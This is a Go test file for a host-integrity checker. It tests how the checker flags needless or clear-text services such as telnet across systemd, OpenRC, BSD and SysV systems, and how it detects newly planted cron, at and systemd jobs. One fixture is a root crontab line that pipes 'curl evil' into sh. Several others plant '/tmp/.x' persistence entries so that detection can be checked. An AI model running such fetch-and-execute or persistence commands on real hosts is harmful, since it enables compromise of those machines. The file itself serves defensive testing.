package startup_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/pugetsoundtech/upkeep/host"
	"github.com/pugetsoundtech/upkeep/host/hosttest"
	"github.com/pugetsoundtech/upkeep/integrity"
	"github.com/pugetsoundtech/upkeep/integrity/integritytest"
	"github.com/pugetsoundtech/upkeep/integrity/inventory"
	"github.com/pugetsoundtech/upkeep/integrity/inventory/startup"
	"github.com/pugetsoundtech/upkeep/report"
	"github.com/pugetsoundtech/upkeep/report/reporttest"
)

// machine is a text whose folders are all known.
func machine(text string) host.Host {
	dirs := "-- / dir complete --\n"
	seen := map[string]bool{}
	for line := range strings.Lines(text) {
		words := strings.Fields(line)
		if len(words) < 3 || words[0] != "--" {
			continue
		}
		name := strings.TrimSuffix(words[1], "/")
		for i := 1; i < len(name); i++ {
			if dir := name[:i]; name[i] == '/' && !seen[dir] {
				seen[dir] = true
				dirs += "-- " + dir + "/ dir complete --\n"
			}
		}
	}
	return hosttest.New(dirs + text).Host()
}

// systemd's links are as systemctl enable of systemd 252 made them.
const debian = `-- /etc/os-release --
ID=debian
-- /run/systemd/system/x --
-- /usr/bin/systemctl --
-- /etc/systemd/system/bluetooth.target.wants/bluetooth.service link=/lib/systemd/system/bluetooth.service --
-- /etc/systemd/system/multi-user.target.wants/ssh.service link=/lib/systemd/system/ssh.service --
-- /etc/systemd/system/sockets.target.wants/telnet.socket link=/lib/systemd/system/telnet.socket --
-- /etc/rc2.d/S01cups link=../init.d/cups --
-- /etc/rc2.d/K01nfs link=../init.d/nfs --
`

func TestAServiceThatNothingNeedsIsToldWithItsCriterionAndBothCommands(t *testing.T) {
	c := startup.Services{Host: machine(debian)}
	res := integritytest.Collect(t, c)
	assert.Equal(t, []string{
		"warning: telnet.socket is started: it sends passwords in clear text, and ssh does the same without",
		"info: bluetooth.service is started, and nothing here seems to need it: there is no Bluetooth adapter",
		"info: cups is started, and nothing here seems to need it: no printer is set up in /etc/cups/printers.conf",
	}, integritytest.Titles(res))
	r := res.Findings[1].Remedy
	require.NotNil(t, r)
	assert.Equal(t, [][]string{{"systemctl", "stop", "--", "bluetooth.service"}, {"systemctl", "disable", "--", "bluetooth.service"}}, r.Do)
	assert.Equal(t, [][]string{{"systemctl", "enable", "--", "bluetooth.service"}, {"systemctl", "start", "--", "bluetooth.service"}}, r.Undo)
	needed := debian + "-- /sys/class/bluetooth/hci0/x --\n-- /etc/cups/printers.conf --\n<Printer lp>\n"
	assert.Len(t, integritytest.Collect(t, startup.Services{Host: machine(needed)}).Findings, 1)
	assert.NoError(t, reporttest.TestChecker(t.Context(), func() report.Checker { return c }, reporttest.Options{}))
}

// telnetOn starts telnetd, in the way of each system; the forms are after its manual pages.
var telnetOn = map[string]struct {
	text     string
	do, undo [][]string
	fix      string
}{
	"systemd": {
		"-- /etc/os-release --\nID=debian\n-- /run/systemd/system/x --\n-- /usr/bin/systemctl --\n-- /etc/systemd/system/multi-user.target.wants/telnetd.service link=/lib/systemd/system/telnetd.service --\n",
		[][]string{{"systemctl", "stop", "--", "telnetd.service"}, {"systemctl", "disable", "--", "telnetd.service"}},
		[][]string{{"systemctl", "enable", "--", "telnetd.service"}, {"systemctl", "start", "--", "telnetd.service"}},
		"",
	},
	"OpenRC": {
		"-- /etc/os-release --\nID=alpine\n-- /sbin/openrc-run --\n-- /sbin/rc-update --\n-- /sbin/rc-service --\n-- /etc/runlevels/default/telnetd link=/etc/init.d/telnetd --\n",
		[][]string{{"rc-service", "telnetd", "stop"}, {"rc-update", "del", "telnetd", "default"}},
		[][]string{{"rc-update", "add", "telnetd", "default"}, {"rc-service", "telnetd", "start"}},
		"",
	},
	"rc.d of FreeBSD": {
		"-- $ [\"uname\", \"-snrm\"] --\nFreeBSD web 14.1-RELEASE amd64\n-- /usr/sbin/service --\n-- /etc/rc.subr --\n-- /etc/rc.conf --\ntelnetd_enable=YES\n",
		[][]string{{"service", "telnetd", "stop"}, {"service", "telnetd", "disable"}},
		[][]string{{"service", "telnetd", "enable"}, {"service", "telnetd", "start"}},
		"",
	},
	"rc.d of OpenBSD": {
		"-- $ [\"uname\", \"-snrm\"] --\nOpenBSD web 7.6 amd64\n-- /usr/sbin/rcctl --\n-- /etc/rc.d/rc.subr --\n-- /etc/rc.conf.local --\ntelnetd_flags=\n",
		[][]string{{"rcctl", "stop", "telnetd"}, {"rcctl", "disable", "telnetd"}},
		[][]string{{"rcctl", "enable", "telnetd"}, {"rcctl", "start", "telnetd"}},
		"",
	},
	"rc.d of NetBSD": {
		"-- $ [\"uname\", \"-snrm\"] --\nNetBSD web 10.0 amd64\n-- /etc/rc.subr --\n-- /etc/rc.conf --\ntelnetd=YES\n", nil, nil,
		"If so, by hand: stop it, and set telnetd=NO in /etc/rc.conf.",
	},
	"SysV": {
		"-- /etc/os-release --\nID=debian\n-- /usr/sbin/update-rc.d --\n-- /usr/sbin/service --\n-- /etc/init.d/telnetd --\n-- /etc/rc2.d/S01telnetd link=../init.d/telnetd --\n",
		[][]string{{"/etc/init.d/telnetd", "stop"}, {"update-rc.d", "telnetd", "disable"}},
		[][]string{{"update-rc.d", "telnetd", "enable"}, {"/etc/init.d/telnetd", "start"}},
		"",
	},
	"SysV of Slackware": {
		"-- /etc/slackware-version --\nSlackware 15.0\n-- /bin/chmod --\n-- /etc/rc.d/rc.telnetd mode=0755 --\n",
		[][]string{{"/etc/rc.d/rc.telnetd", "stop"}, {"chmod", "644", "/etc/rc.d/rc.telnetd"}},
		[][]string{{"chmod", "755", "/etc/rc.d/rc.telnetd"}, {"/etc/rc.d/rc.telnetd", "start"}},
		"",
	},
}

func TestAServiceIsDisabledAndTakenBackInTheWayOfItsSystem(t *testing.T) {
	for name, c := range telnetOn {
		t.Run(name, func(t *testing.T) {
			res := integritytest.Collect(t, startup.Services{Host: machine(c.text)})
			require.Len(t, res.Findings, 1, res.Problems)
			f := res.Findings[0]
			assert.Contains(t, f.Title, "it sends passwords in clear text", "the criterion")
			if c.fix != "" {
				assert.Equal(t, c.fix, f.Fix)
				return
			}
			require.NotNil(t, f.Remedy)
			assert.Equal(t, c.do, f.Remedy.Do)
			assert.Equal(t, c.undo, f.Remedy.Undo)
		})
	}
}

func TestWhatCannotBeReadIsNoReasonToCallAServiceNeedless(t *testing.T) {
	text := debian + "-- /etc/cups/printers.conf error=permission --\n-- /sys/class/bluetooth error=permission --\n"
	assert.Len(t, integritytest.Collect(t, startup.Services{Host: machine(text)}).Findings, 1)
	res := integritytest.Collect(t, startup.Services{Host: machine("-- /etc/systemd/system error=permission --\n")})
	assert.Equal(t, report.Failed, res.Status)
	assert.False(t, res.Covers("services/needed"))
}

// The files of the other systems are after their manual pages: rc.conf(5) of
// FreeBSD, NetBSD and OpenBSD, rc-update(8) of OpenRC, and Slackware's rc.d.
func TestWhatIsEnabledIsReadOnEverySystem(t *testing.T) {
	for name, c := range map[string]struct{ text, want string }{
		"FreeBSD":   {"-- /etc/rc.subr --\n-- /etc/rc.conf --\nhostname=\"a\"\nsshd_enable=\"YES\" # in\nntpd_enable=\"YES\"\n-- /etc/rc.conf.local --\nntpd_enable=NO\n", "sshd"},
		"its ports": {"-- /etc/rc.subr --\n-- /etc/rc.conf.d/sshd/a --\nsshd_enable=YES\n-- /usr/local/etc/rc.conf.d/nginx --\nnginx_enable=YES\n", "nginx sshd"},
		"NetBSD":    {"-- /etc/rc.subr --\n-- /etc/rc.conf --\nsshd=YES\npostfix=NO\n", "sshd"},
		"OpenBSD":   {"-- /etc/rc.d/rc.subr --\n-- /etc/rc.conf.local --\nhttpd_flags=\nsmtpd_flags=NO\npkg_scripts=\"dovecot nsd\"\n", "dovecot httpd nsd"},
		"OpenRC":    {"-- /etc/rc.conf --\nunicode=\"YES\"\n-- /etc/runlevels/default/sshd link=/etc/init.d/sshd --\n", "sshd"},
		"Slackware": {"-- /etc/slackware-version --\nSlackware 15.0\n-- /etc/rc.d/rc.sshd mode=0755 --\n-- /etc/rc.d/rc.cups mode=0644 --\n", "sshd"},
		"SysV":      {"-- /etc/rc.d/rc3.d/S55sshd link=../init.d/sshd --\n-- /etc/rc.d/rc5.d/S55sshd link=../init.d/sshd --\n", "sshd"},
	} {
		t.Run(name, func(t *testing.T) {
			all, err := startup.ReadEnabled(t.Context(), machine(c.text))
			require.NoError(t, err)
			var names []string
			for _, e := range all {
				names = append(names, e.Name)
			}
			assert.Equal(t, c.want, strings.Join(names, " "))
		})
	}
}

const table = `-- /var/spool/cron/crontabs/ann --
# m h dom mon dow command
MAILTO=ann
0 4 * * *	/home/ann/bin/sync
`

const atJob = "-- /var/spool/cron/atjobs/a0000 --\n#!/bin/sh\numask 22\n/usr/bin/backup\n"

const homes = "-- /etc/passwd --\nann:x:1000:1000::/home/ann:/bin/sh\nbin:x:2:2::/:/bin/false\n"

func TestAHomeWhoseUnitsMayNotBeReadIsUnknown(t *testing.T) {
	check := inventory.Check{Question: startup.Jobs{Host: machine(homes + "-- /home/ann/.config/ dir error=permission --\n")}, Dir: t.TempDir()}
	res := integritytest.Collect(t, check)
	assert.Equal(t, report.Partial, res.Status)
	assert.Contains(t, res.Problems[0].Message, "/home/ann/.config/systemd/user")
}

func TestOnePlantedJobIsOneFinding(t *testing.T) {
	for name, c := range map[string]struct{ was, now, want string }{
		"a line":         {table, table + "@reboot /tmp/.x\n", "warning: A new job of ann: @reboot /tmp/.x"},
		"a changed line": {table, strings.Replace(table, "0 4", "0 5", 1), "warning: A job of ann changed: 0 5 * * * /home/ann/bin/sync"},
		"a lost table":   {table, "-- /var/spool/cron/crontabs/ dir complete --\n", "notice: A job of ann is gone: 0 4 * * * /home/ann/bin/sync"},
		"a table":        {"-- /var/spool/cron/crontabs/ dir complete --\n", "-- /var/spool/cron/crontabs/root --\n* * * * * curl evil | sh\n", "warning: A new job of root: * * * * * curl evil | sh"},
		"a job of at":    {table, table + "-- /var/spool/cron/atjobs/a0000 --\n#!/bin/sh\numask 22\ncd /root || exit 1\n/tmp/.x\n", "warning: A new job of somebody: once /tmp/.x"},
		"a timer of a user": {
			homes, homes + "-- /home/ann/.config/systemd/user/x.timer --\n[Timer]\nOnBootSec=5\nUnit=y.service\n",
			"warning: A new job of ann: OnBootSec=5 y.service",
		},
		"a service of a user": {
			homes, homes + "-- /home/ann/.config/systemd/user/y.service --\n[Service]\nExecStart=/tmp/.x\n",
			"warning: A new job of ann: by y.service /tmp/.x",
		},
		"a timer until the next start": {
			homes, homes + "-- /run/systemd/transient/run-1.timer --\n[Timer]\nOnCalendar=daily\n-- /run/systemd/transient/run-1.service --\n[Service]\nExecStart=/tmp/.x\n",
			"warning: A new job of root: OnCalendar=daily /tmp/.x",
		},
		"what a timer until the next start starts": {
			homes + "-- /run/systemd/transient/run-1.timer --\n[Timer]\nOnCalendar=daily\n-- /run/systemd/transient/run-1.service --\n[Service]\nExecStart=/bin/x\n",
			homes + "-- /run/systemd/transient/run-1.timer --\n[Timer]\nOnCalendar=daily\n-- /run/systemd/transient/run-1.service --\n[Service]\nExecStart=/tmp/.x\n",
			"warning: A job of root changed: OnCalendar=daily /tmp/.x",
		},
		"a service that waits, and one that runs": {
			homes, homes + "-- /run/systemd/transient/a.service --\n[Service]\nExecStart=/tmp/.x\n" +
				"-- /run/systemd/transient/b.service --\n[Service]\nExecStart=/bin/b\n-- /sys/fs/cgroup/system.slice/b.service/cgroup.events --\npopulated 1\nfrozen 0\n-- /sys/fs/cgroup/system.slice/a.service/cgroup.events --\npopulated 0\n",
			"warning: A new job of root: by a.service /tmp/.x",
		},
		"a service that goes before one that is installed and runs": {
			homes + "-- /usr/lib/systemd/system/ssh.service --\n-- /sys/fs/cgroup/system.slice/ssh.service/cgroup.events --\npopulated 1\n",
			homes + "-- /usr/lib/systemd/system/ssh.service --\n-- /sys/fs/cgroup/system.slice/ssh.service/cgroup.events --\npopulated 1\n-- /run/systemd/transient/ssh.service --\n[Service]\nExecStart=/tmp/.x\n",
			"warning: A new job of root: by ssh.service /tmp/.x",
		},
		"a socket until the next start": {
			homes, homes + "-- /run/systemd/transient/a.socket --\n[Socket]\nListenStream=99\n",
			"warning: A new job of root: ListenStream=99",
		},
		"a change to a user's unit": {
			homes, homes + "-- /home/ann/.config/systemd/user/app.service.d/x.conf --\n[Service]\nExecStartPost=/tmp/.x\n",
			"warning: A new job of ann: by app.service.d/x.conf /tmp/.x",
		},
		"a unit in another folder": {
			homes, homes + "-- /home/ann/.local/share/systemd/user/y.service --\n[Service]\nExecStart=/tmp/.x\n",
			"warning: A new job of ann: by y.service /tmp/.x",
		},
		"a change until the next start": {
			homes, homes + "-- /run/systemd/system/ssh.service.d/x.conf --\n[Service]\nExecStartPost=/tmp/.x\n-- /run/systemd/transient/machine-a.scope.d/50-x.conf --\n[Scope]\nDeviceAllow=/dev/kvm\n",
			"warning: A new job of root: by ssh.service.d/x.conf /tmp/.x",
		},
		"a line of a job of at": {
			atJob, strings.Replace(atJob, "umask 22\n", "umask 22\n/tmp/.x &\n", 1),
			"warning: A new job of somebody: once /usr/bin/backup",
		},
		"a variable": {table, table + "PATH=/tmp\n", "warning: A table of jobs sets PATH=/tmp"},
	} {
		t.Run(name, func(t *testing.T) {
			check := inventory.Check{Question: startup.Jobs{Host: machine(c.was)}, Dir: t.TempDir()}
			require.Empty(t, integritytest.Collect(t, check).Findings)
			check.Question = startup.Jobs{Host: machine(c.now)}
			res := integritytest.Collect(t, check)
			assert.Contains(t, integritytest.Titles(res), c.want, res.Problems)
			if name != "a lost table" {
				assert.Len(t, res.Findings, 1)
			}
			done, err := check.Accept(t.Context(), func(report.Finding) bool { return true }, integrity.Acceptance{By: "ann"}, nil)
			require.NoError(t, err)
			assert.Len(t, done, len(res.Findings))
			assert.Empty(t, integritytest.Collect(t, check).Findings)
		})
	}
}

func FuzzParseJob(f *testing.F) {
	f.Add("0 4 * * * /bin/x\n")
	f.Add("@reboot")
	f.Add("A=b")
	f.Fuzz(func(t *testing.T, line string) {
		j, ok := startup.ParseJob(line, "ann")
		if ok && j.When+j.Command == "" {
			t.Errorf("%q is a job without anything", line)
		}
	})
}

func ExampleParseUnit() {
	fmt.Println(startup.ParseUnit("[Timer]\nOnCalendar=*-*-* 04:00\nUnit = backup.service\n"))
	// Output: OnCalendar=*-*-* 04:00 backup.service
}

func ExampleParseJob() {
	j, _ := startup.ParseJob("30 2 * * 1  /usr/local/bin/backup --all", "ann")
	fmt.Printf("%s at %q: %s\n", j.User, j.When, j.Command)
	// Output: ann at "30 2 * * 1": /usr/local/bin/backup --all
}
